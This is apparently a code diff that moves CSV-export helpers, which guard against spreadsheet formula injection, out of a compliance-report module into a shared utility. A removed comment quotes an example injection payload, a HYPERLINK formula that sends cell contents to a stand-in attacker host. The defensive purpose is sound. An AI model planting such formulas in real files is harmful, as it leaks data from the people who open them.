@@ -1,6 +1,7 @@
 import { z } from 'zod';
 import { toIssues } from '../domain/validate.js';
 import { ValidationError } from '../errors.js';
+import { type CsvColumn, csvTable } from '../util/csv.js';
 import {
   type ComplianceReportData,
   parseComplianceReportData,
@@ -68,32 +69,8 @@ function parseOptions<S extends z.ZodType>(schema: S, input: unknown, subject: s
 // CSV
 // ---------------------------------------------------------------------------------------------
 
-/**
- * Spreadsheet applications (Excel, LibreOffice, Google Sheets) evaluate a cell whose text starts
- * with one of these as a formula, even in a CSV. Server and package names come from the managed
- * servers themselves, so whoever controls a server could otherwise plant e.g.
- * `=HYPERLINK("https://evil.example/?"&A1,"click")` in a report a customer opens (CSV / formula
- * injection, OWASP). A leading `'` makes the cell plain text; the cost is a visible `'` on the
- * rare legitimate value starting with one of these characters.
- */
-const FORMULA_START = /^[=+\-@\t\r]/;
-
-/** RFC 4180 requires quoting a field that holds the delimiter, a quote or a line break. */
-const NEEDS_QUOTES = /[",\r\n]/;
-
-export function csvCell(value: string | number | boolean | null | undefined): string {
-  let text = value === null || value === undefined ? '' : String(value);
-  if (FORMULA_START.test(text)) text = `'${text}`;
-  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
-}
-
 /** Joins list fields with `; `; the JSON report keeps lists lossless. */
 const list = (items: readonly string[]) => items.join('; ');
-
-export type CsvColumn<T> = readonly [
-  header: string,
-  value: (row: T) => string | number | boolean | null | undefined,
-];
 
 const SERVER_COLUMNS: readonly CsvColumn<ReportServer>[] = [
   ['id', (s) => s.id],
@@ -124,18 +101,11 @@ const PATCH_COLUMNS: readonly CsvColumn<ReportPatch>[] = [
   ['advisories', (p) => list(p.advisories)],
 ];
 
-export function csvTable<T>(columns: readonly CsvColumn<T>[], rows: readonly T[]): string {
-  const lines = [columns.map(([header]) => csvCell(header)).join(',')];
-  for (const row of rows) lines.push(columns.map(([, value]) => csvCell(value(row))).join(','));
-  // RFC 4180 records end in CRLF; the final one too, so concatenated exports stay well-formed.
-  return lines.map((line) => `${line}\r\n`).join('');
-}
-
 /**
- * Renders one table of a report as CSV (RFC 4180: comma-separated, CRLF line ends, fields quoted
- * when they hold a comma, quote or line break, quotes doubled), with a header row of the JSON
- * field names. Cells a spreadsheet would run as a formula get a leading `'`. Rows keep the input
- * order; list fields are joined with `; `.
+ * Renders one table of a report as CSV (RFC 4180: comma-separated, CRLF line ends, every field
+ * quoted, quotes doubled), with a header row of the JSON field names. Cells a spreadsheet could
+ * run as a formula get a leading `'`; plain numbers stay numbers (see `csvCell`). Rows keep the
+ * input order; list fields are joined with `; `.
  *
  * @throws {ValidationError} when `data` or `options` are invalid.
  */
